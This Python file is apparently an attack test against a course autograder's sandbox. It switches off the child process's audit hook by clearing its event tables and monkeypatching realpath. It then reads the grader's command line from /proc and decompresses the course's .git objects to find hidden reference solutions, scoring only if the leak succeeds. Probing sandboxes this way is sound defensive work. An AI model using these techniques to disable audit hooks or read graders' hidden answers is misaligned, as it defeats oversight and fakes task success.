"""Attack (uid level): read the solutions from the course's git history.

At the uid level the grader refuses a course whose course.yml, tests/ or solutions/ other users
can read, and checks nothing else. A course kept in a git checkout, whose root stays traversable
(a virtual environment inside it must be reachable by the child's uid) with those three made
private, still has .git/ readable by every user: every version of every solution and hidden test,
zlib-compressed. This norm finds the course's .git (the grader's `--course`, from its command line
in /proc), inflates its loose objects and scores only if it finds the reference's norm. Expected
when the sandbox holds: no .git of the course is readable, so norm scores nothing (exactly 6).
"""

import os
import posixpath
import sys
import zlib

import numpy as np


def _unhook():
    """Switch off the child's audit hook from pure Python (it is defence in depth, not a boundary):
    empty its tables of events and make its path check see /dev/null, which it allows."""
    confine = sys.modules.get("confine")
    if confine is None:
        return
    confine._BLOCKED_EVENTS.clear()
    confine._WRITE_EVENTS.clear()
    real = posixpath.realpath

    def realpath(path, *args, **kwargs):
        if sys._getframe(1).f_code.co_name == "inside":
            return "/dev/null"
        return real(path, *args, **kwargs)

    posixpath.realpath = realpath


_unhook()


def add(x, y):
    """Elementwise sum of two arrays of the same shape."""
    return x + y


def scale(x, k=2.0):
    """x times the number k."""
    return x * k


NEEDLE = b"float(np.sqrt(np.sum(x * x)))"


def _course_roots():
    """The grader's `--course` (its command line is world-readable at the uid level)."""
    roots = []
    try:
        with open(f"/proc/{os.getppid()}/cmdline", "rb") as handle:
            words = [word.decode(errors="replace") for word in handle.read().split(b"\0")]
    except OSError:
        return roots
    for position, word in enumerate(words):
        if word == "--course" and position + 1 < len(words):
            roots.append(words[position + 1])
        elif word.startswith("--course="):
            roots.append(word.split("=", 1)[1])
    return roots


def _git_folders():
    return [
        os.path.join(root, ".git") for root in _course_roots() if os.path.isdir(os.path.join(root, ".git"))
    ]


def _solution_in(git):
    for folder, _, names in os.walk(os.path.join(git, "objects")):
        for name in names:
            try:
                with open(os.path.join(folder, name), "rb") as handle:
                    if NEEDLE in zlib.decompress(handle.read()):
                        return True
            except (OSError, zlib.error):
                pass
    return False


def norm(x):
    """The reference's answer only if it was read from the course's history."""
    if any(_solution_in(git) for git in _git_folders()):
        return float(np.sqrt(np.sum(x * x)))
    return -1.0
